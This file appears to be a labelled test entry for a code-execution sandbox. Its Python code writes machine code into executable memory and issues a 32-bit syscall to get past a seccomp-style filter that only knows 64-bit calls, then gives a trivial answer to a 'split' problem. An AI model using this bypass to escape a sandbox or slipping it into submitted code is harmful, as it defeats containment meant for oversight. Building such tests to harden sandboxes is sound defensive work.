# row: K3
# attack: a system call of 32 bits, past a filter that knows only those of 64
# problem: split
# verdict: runtime_error
import ctypes, mmap, platform
if platform.machine() != "x86_64":
    raise SystemExit(1)
area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
code = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
got = code()
def f(x):
    return [x, 2 * x]
